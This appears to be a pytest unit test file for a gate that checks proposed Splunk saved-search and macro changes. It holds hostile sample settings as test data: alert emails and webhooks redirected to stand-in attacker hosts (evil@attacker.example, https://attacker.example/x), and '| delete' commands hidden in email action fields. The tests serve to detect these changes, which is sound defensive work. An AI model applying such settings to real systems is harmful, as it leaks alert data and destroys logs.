"""What a saved search does when it fires, and what a macro leaves open: only the new is judged."""

import pytest

from agentgate_mcp.gate.blast.alerts import alert_facts
from agentgate_mcp.model.call import Json
from agentgate_mcp.model.facts import SearchFacts
from tests.unit.blast.worlds import blast, world_of
from tests.unit.graph.samples import detection, macro, obj

pytestmark = pytest.mark.req("blast.search")

WORLD = world_of(
    [
        detection(
            "Mailed",
            "index=a",
            actions="notable,email,webhook",
            action__email__to="soc@corp.example, lead@corp.example",
            action__email__sendresults="0",
            action__webhook__param__url="https://hooks.corp.example/a",
        ),
        macro("tail", "search *"),
        macro("open", "search `gone`"),
    ]
)


def modified(**settings: Json) -> SearchFacts | None:
    arguments: dict[str, Json] = {k.replace("__", "."): v for k, v in settings.items()}
    return blast(WORLD, "propose_modify_saved_search", name="Mailed", settings=arguments, reason="r")[1].search


def created(settings: dict[str, Json]) -> SearchFacts:
    content: dict[str, Json] = {"search": "index=a", **settings}
    _, facts = blast(world_of(), "propose_create_saved_search", name="n", app="search", settings=content, reason="r")
    assert facts.search is not None
    return facts.search


@pytest.mark.parametrize(
    ("settings", "write", "protected"),
    [
        ({"actions": "logevent"}, "logevent:index=main", False),
        ({"action.logevent": "1", "action.logevent.param.index": "_audit"}, "logevent:index=_audit", True),
        ({"actions": "LogEvent", "action.LogEvent.param.Index": "_internal"}, "logevent:index=_internal", True),
        ({"actions": "lookup", "action.lookup.filename": "allow.csv"}, "lookup:allow.csv", False),
        ({"actions": "lookup", "action.lookup.filename": "agentgate_x.csv"}, "lookup:agentgate_x.csv", True),
        ({"actions": "populate_lookup", "action.populate_lookup.dest": "x"}, "populate_lookup:x", False),
        ({"actions": "outputtelemetry"}, "outputtelemetry:(unnamed)", False),
        ({"actions": "summary_index", "action.summary_index._name": "_internal"}, "summaryindex:index=_internal", True),
    ],
)  # fmt: skip
def test_an_alert_action_that_writes_is_a_write_with_its_target(
    settings: dict[str, Json], write: str, protected: bool
) -> None:
    search = created(settings)
    assert search.writes == (write,)
    assert search.protected_writes == ((write,) if protected else ())


@pytest.mark.req("blast.protected")
def test_an_alert_that_writes_into_an_audit_index_is_a_protected_change() -> None:
    _, facts = blast(
        WORLD,
        "propose_modify_saved_search",
        name="Mailed",
        settings={"action.logevent.param.index": "_audit"},
        reason="r",
    )
    assert facts.change is not None
    assert facts.change.protected == ("saved_search:Mailed (alert events into _audit)",)


@pytest.mark.parametrize("action", ["custom_evil", "script", "runshellscript", "sendalert"])
def test_an_action_that_is_not_known_runs_code(action: str) -> None:
    assert created({"actions": f"notable,{action}"}).destructive == (f"action.{action}",)


@pytest.mark.parametrize("setting", ["command", "preprocess_results"])
def test_a_search_hidden_in_an_action_runs(setting: str) -> None:
    search = modified(**{f"action__email__{setting}": "| delete"})
    assert search is not None
    assert search.destructive == (f"action.email.{setting}=| delete",)


@pytest.mark.parametrize("action", ["notable", "risk", "notable,risk,escu"])
def test_an_ordinary_action_reaches_nothing(action: str) -> None:
    search = created({"actions": action})
    assert (search.egress, search.writes, search.destructive) == ((), (), ())


@pytest.mark.parametrize(
    ("settings", "egress"),
    [
        ({"action__email__bcc": "evil@attacker.example"}, "action.email.bcc=evil@attacker.example"),
        (
            {"action__email__to": "soc@corp.example; Lead@corp.example evil@attacker.example"},
            "action.email.to=evil@attacker.example",
        ),
        ({"action__Email__CC": ["x@attacker.example"]}, "action.email.cc=x@attacker.example"),
        ({"action__email__mailserver": "mail.attacker.example"}, "action.email.mailserver=mail.attacker.example"),
        ({"action__email__sendresults": "1"}, "action.email.sendresults"),
        ({"action__email__sendcsv": True}, "action.email.sendcsv"),
        ({"action__email__sendpdf": "auto"}, "action.email.sendpdf"),
        (
            {"action__webhook__param__url": "https://attacker.example/x"},
            "action.webhook.param.url=https://attacker.example/x",
        ),
        ({"action__slack": "1"}, "action.slack"),
    ],
)
def test_a_new_recipient_address_or_attachment_is_new_egress(settings: dict[str, Json], egress: str) -> None:
    search = modified(**settings)
    assert search is not None
    assert search.egress == (egress,)


@pytest.mark.parametrize(
    "settings",
    [
        {"action__email__to": "lead@corp.example"},
        {"action__email__to": "lead@corp.example, SOC@corp.example"},
        {"action__email__subject": "Another"},
        {"action__email__sendresults": "0"},
        {"action__slack__param__channel": "#soc"},
        {"description": "x"},
        {"search": "index=a x=1"},
    ],
)
def test_fewer_recipients_or_other_words_are_no_egress(settings: dict[str, Json]) -> None:
    assert modified(**settings) is None


def test_every_recipient_of_a_created_alert_is_named() -> None:
    facts = alert_facts(
        obj("saved_search", "s", {"action.email": True, "action.email.to": ["a@x.example", "b@x.example"]})
    )
    assert facts.egress == ("action.email", "action.email.to=a@x.example", "action.email.to=b@x.example")


@pytest.mark.parametrize(
    "definition", ["`nosuch`", "search * | `nosuch`", "if(x=1, `nosuch`, 2)", "user=`nosuch` OR y"]
)
def test_a_macro_that_begins_to_call_an_unknown_one_is_unresolved(definition: str) -> None:
    _, facts = blast(WORLD, "propose_modify_macro", name="tail", settings={"definition": definition}, reason="r")
    assert facts.search is not None
    assert facts.search.unresolved == ("macro:nosuch",)


def test_a_macro_with_a_broken_call_is_unresolved() -> None:
    _, facts = blast(WORLD, "propose_modify_macro", name="tail", settings={"definition": "search `x"}, reason="r")
    assert facts.search is not None
    assert facts.search.unresolved[0].startswith("macro: ")


def test_a_macro_that_called_an_unknown_one_before_is_not_held_for_it() -> None:
    settings: dict[str, Json] = {"definition": "search `gone` x=1"}
    _, facts = blast(WORLD, "propose_modify_macro", name="open", settings=settings, reason="r")
    assert facts.search is None
